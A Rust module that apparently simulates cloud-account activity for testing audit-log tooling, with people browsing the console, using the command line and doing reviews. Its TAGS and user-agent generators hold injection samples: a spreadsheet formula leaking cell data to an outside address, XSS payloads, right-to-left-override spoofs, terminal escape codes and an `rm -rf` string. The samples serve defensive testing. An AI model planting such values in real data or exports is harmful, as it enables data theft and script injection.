//! People at work: the console, the command line, scripts. They look far more often than they change anything.

use crate::demo::calendar::Place;
use crate::demo::calls::{Maker, access, compute, network, oversight, storage};
use crate::demo::cast::{COMMAND_LINE, Cast, PEOPLE, Person, Tool};
use crate::demo::estate::{Member, Region};
use crate::demo::record::Failure;
use crate::demo::session::Session;
use crate::demo::stage::Stage;

/// What pages of the console ask for.
const PAGES: [&[Maker]; 5] = [
    &[
        compute::describe_instances,
        compute::describe_instance_status,
        compute::describe_volumes,
        compute::describe_tags,
        network::describe_security_groups,
        oversight::describe_alarms,
    ],
    &[
        network::describe_vpcs,
        network::describe_subnets,
        network::describe_route_tables,
        network::describe_nat_gateways,
        network::describe_network_interfaces,
        network::describe_security_group_rules,
    ],
    &[storage::list_buckets, storage::read_bucket, storage::read_bucket, storage::read_bucket],
    &[
        compute::describe_services,
        compute::describe_load_balancers,
        compute::describe_target_health,
        compute::list_functions,
        compute::get_function,
        oversight::describe_log_groups,
    ],
    &[
        storage::describe_databases,
        storage::describe_database_snapshots,
        oversight::list_metrics,
        oversight::describe_alarms,
        access::describe_key,
    ],
];

/// What people ask for on the command line.
const COMMANDS: &[Maker] = &[
    access::get_caller_identity,
    compute::describe_instances,
    compute::describe_services,
    compute::describe_groups,
    compute::describe_stacks,
    compute::get_function,
    oversight::describe_log_groups,
    oversight::start_log_query,
    access::describe_instance_information,
    access::get_parameter,
    storage::list_buckets,
    network::describe_security_groups,
    compute::describe_images,
];

/// What the management account's people ask for.
const GOVERNANCE: &[Maker] = &[
    oversight::list_accounts,
    oversight::describe_organization,
    oversight::get_cost,
    oversight::describe_advice,
    oversight::get_resources,
    access::list_users,
    access::list_roles,
    access::get_account_summary,
    oversight::describe_trails,
    oversight::get_trail_status,
];

/// What security's people ask for.
const REVIEW: &[Maker] = &[
    oversight::lookup_events,
    oversight::describe_trails,
    oversight::get_trail_status,
    oversight::describe_compliance,
    oversight::get_findings,
    oversight::list_detectors,
    access::list_roles,
    storage::read_bucket,
];

/// Values that people put into tags; some of them mean harm to whoever prints them.
const TAGS: [(&str, &str); 8] = [
    ("担当", "田中 美咲"),
    ("用途", "負荷試験 (来週まで)"),
    ("Owner", "web-team@kaigan.example"),
    ("note", "=HYPERLINK(\"http://198.51.100.66/?leak=\"&A1,\"請求書を開く\")"),
    ("note", "[click here](javascript:alert(document.domain))"),
    ("note", "<img src=x onerror=alert(1)>"),
    ("説明", "無害な\u{202e}gpj.exe\u{202c}ファイル"),
    ("ticket", "OPS-1423 | **urgent** | `rm -rf`"),
];

/// A person works for a few minutes in one of their accounts.
pub(super) fn work(stage: &mut Stage<'_>, cast: &mut Cast, place: Place) {
    let here: Vec<&'static Person> = everybody().filter(|person| person.place == place).collect();
    let person = *stage.random.pick(&here);
    let (member, permission) = *stage.random.pick(person.duties);
    let mut session = cast.sign_in(stage, person, member);
    let region = if stage.random.chance(800) { person.region() } else { Region::Tokyo };
    if person.tool == Tool::CommandLine && stage.random.chance(80) {
        session.agent = odd_agent(stage);
    }
    let count = stage.random.between(24, 60);
    match member {
        Member::Management => stage.sample(&session, Region::Virginia, GOVERNANCE, count),
        Member::LogArchive => stage.sample(&session, Region::Tokyo, REVIEW, count),
        _ if permission == "SecurityAudit" => stage.sample(&session, region, REVIEW, count),
        _ if person.tool == Tool::Console => {
            for _ in 0..count / 10 {
                let page = *stage.random.pick(&PAGES);
                stage.sample(&session, region, page, 10);
                stage.wait(5, 40);
            }
        }
        _ => stage.sample(&session, region, COMMANDS, count),
    }
    if permission.starts_with("Power") && stage.random.chance(350) {
        write_something(stage, &session, region);
    }
}

fn everybody() -> impl Iterator<Item = &'static Person> {
    static EVERYBODY: [Person; PEOPLE.len()] = PEOPLE;
    EVERYBODY.iter()
}

fn write_something(stage: &mut Stage<'_>, session: &Session, region: Region) {
    let site = stage.site(session.member, region);
    match stage.random.below(4) {
        0 => {
            let instance = stage.random.pick(&site.instances).clone();
            let (tag, value) = *stage.random.pick(&TAGS);
            stage.call(session, region, &compute::create_tags(&instance, tag, value));
        }
        1 => {
            let call = access::put_parameter(site, stage.random);
            stage.call(session, region, &call);
        }
        2 => {
            let call = compute::set_desired_capacity(site, stage.random);
            stage.call(session, region, &call);
        }
        _ => {
            // A function of that name is not there: an ordinary mistake.
            let call = compute::get_function(site, stage.random);
            let failure = Failure { code: "ResourceNotFoundException", message: "Function not found".to_owned() };
            stage.fail(session, region, &call, &failure);
        }
    }
}

/// User agents that programs or people have filled with more than a name.
fn odd_agent(stage: &mut Stage<'_>) -> String {
    match stage.random.below(4) {
        0 => {
            // Agents are cut at one kilobyte.
            let mut agent = format!("{COMMAND_LINE} exec-env/CloudShell");
            while agent.len() < 1000 {
                agent.push_str(" plugin/kaigan-wrapper#4.2.1");
            }
            agent.truncate(1000);
            agent
        }
        1 => format!("{COMMAND_LINE} <script>alert(1)</script>"),
        2 => format!("{COMMAND_LINE} \u{1b}[31mFATAL\u{1b}[0m\u{7}"),
        _ => format!("{COMMAND_LINE} \u{202e}drow\u{202c} \"quoted\" 'and' \\backslashed\\"),
    }
}
